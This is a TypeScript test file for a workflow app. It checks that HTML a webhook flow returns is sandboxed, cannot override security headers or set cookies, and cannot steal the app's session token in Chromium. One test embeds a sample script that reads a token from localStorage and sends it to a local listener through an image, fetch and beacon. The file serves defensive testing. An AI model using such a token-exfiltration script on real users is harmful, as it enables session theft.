import { existsSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser } from 'playwright-core';
import { userContentPolicy } from '../../lib/user-content';
import { chain, createFlow } from '../../test/flow-fixtures';
import { listenOnFreePort } from '../../test/live-client';
import { useTestApp, type TestAccount, type TestContext } from '../../test/test-app';
import { until } from '../../test/until';

const chromiumPath = process.env.PONTE_CHROMIUM_PATH ?? '/usr/bin/chromium';

/** A flow whose webhook (GET /pagina) answers `body` with the given headers. */
function pageFlow(t: TestContext, account: TestAccount, body: string, headers: object[]) {
  return createFlow(
    t,
    account,
    chain(
      {
        type: 'core_webhook_trigger',
        params: { method: 'GET', path: 'pagina', response: 'respond_node' },
      },
      { type: 'core_respond_webhook', params: { status: 200, headers, body } },
    ),
  );
}

describe('webhook answers written by a flow', () => {
  const t = useTestApp('embedded', { webhookTimeoutMs: 5_000 });

  it('are sandboxed, nosniff, and cannot replace the security headers or touch storage', async () => {
    const account = await t.createAccount();
    const flowId = await pageFlow(t, account, '<p>olá</p>', [
      { key: 'Content-Type', value: 'text/html; charset=utf-8' },
      { key: 'Content-Security-Policy', value: "script-src 'unsafe-inline'" },
      { key: 'X-Content-Type-Options', value: 'sniff' },
      { key: 'Set-Cookie', value: 'token=1; Path=/' },
      { key: 'Clear-Site-Data', value: '"storage"' },
      { key: 'Service-Worker-Allowed', value: '/' },
      { key: 'X-Pedido', value: '17' },
    ]);
    const res = await t.app.inject(`/engine/webhook/${flowId}/pagina`);
    expect(res.statusCode, res.body).toBe(200);
    expect(res.body).toBe('<p>olá</p>');
    expect(res.headers['content-type']).toBe('text/html; charset=utf-8');
    expect(res.headers['content-security-policy']).toBe(userContentPolicy);
    expect(res.headers['content-security-policy']).not.toMatch(/allow-scripts|allow-same-origin/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['x-pedido']).toBe('17');
    for (const name of ['set-cookie', 'clear-site-data', 'service-worker-allowed'])
      expect(res.headers, name).not.toHaveProperty(name);

    // A JSON answer (the immediate 202) is user content too; the app's errors keep its policy.
    const json = await pageFlow(t, account, '{{ msg.webhook.query }}', []);
    const answer = await t.app.inject(`/engine/webhook/${json}/pagina?a=1`);
    expect(answer.headers['content-security-policy']).toBe(userContentPolicy);
    // A page of the app's origin never loads a flow's answer as a script, worker or style.
    for (const dest of ['script', 'worker', 'serviceworker', 'style']) {
      const res = await t.app.inject({
        url: `/engine/webhook/${flowId}/pagina`,
        headers: { 'sec-fetch-site': 'same-origin', 'sec-fetch-dest': dest },
      });
      expect(res.statusCode, dest).toBe(403);
      expect(res.json().code).toBe('forbidden');
    }
    const elsewhere = await t.app.inject({
      url: `/engine/webhook/${flowId}/pagina`,
      headers: { 'sec-fetch-site': 'cross-site', 'sec-fetch-dest': 'script' },
    });
    expect(elsewhere.statusCode).toBe(200);
    const missing = await t.app.inject('/engine/webhook/nao-existe/pagina');
    expect(missing.statusCode).toBe(404);
    expect(missing.headers['content-security-policy']).toContain("default-src 'self'");
  });
});

describe.skipIf(!existsSync(chromiumPath))('a webhook page in Chromium', () => {
  const t = useTestApp('embedded', { webhookTimeoutMs: 5_000 });
  let browser: Browser;
  let appUrl: string;
  let listener: Server;
  let listenerUrl: string;
  const received: string[] = [];

  beforeAll(async () => {
    appUrl = await listenOnFreePort(t.app);
    listener = createServer((request, response) => {
      received.push(request.url ?? '');
      response.writeHead(200, { 'content-type': 'image/gif', 'access-control-allow-origin': '*' });
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    browser = await chromium.launch({
      executablePath: chromiumPath,
      headless: true,
      args: [
        '--no-sandbox',
        '--disable-background-networking',
        '--disable-component-update',
        '--disable-sync',
      ],
    });
  });

  afterAll(async () => {
    await browser?.close();
    await new Promise((resolve) => listener?.close(resolve));
  });

  it("cannot read the app's token nor send it anywhere", async () => {
    const account = await t.createAccount();
    const steal = `
      var t;
      try { t = localStorage.getItem('token'); } catch (e) { t = 'bloqueado-' + e.name; }
      var img = document.createElement('img');
      img.src = '${listenerUrl}/roubo-img?t=' + encodeURIComponent(t);
      document.body.appendChild(img);
      fetch('${listenerUrl}/roubo-fetch?t=' + encodeURIComponent(t));
      navigator.sendBeacon('${listenerUrl}/roubo-beacon', t);`;
    const html = `<!doctype html><html><body><p>Pedido recebido</p><script>${steal}</script><img src="${listenerUrl}/fim"></body></html>`;
    // The author also asks for a policy of their own that would let the script run.
    const flowId = await pageFlow(t, account, html, [
      { key: 'Content-Type', value: 'text/html; charset=utf-8' },
      { key: 'Content-Security-Policy', value: "default-src * 'unsafe-inline'" },
    ]);

    const page = await browser.newPage();
    // The app's origin holds a session, as a signed-in tab would.
    await page.goto(`${appUrl}/healthz`);
    await page.evaluate("localStorage.setItem('token', 'token-secreto-da-sessao')");
    await page.goto(`${appUrl}/engine/webhook/${flowId}/pagina`, { waitUntil: 'load' });
    // The image after the script has arrived: the script, had it run, ran before it.
    await until(() => received.some((url) => url.startsWith('/fim')), 'a imagem do fim da página');
    await page.close();

    expect(received.filter((url) => url.startsWith('/roubo'))).toEqual([]);
    expect(received.join(' ')).not.toContain('token-secreto');
  });
});
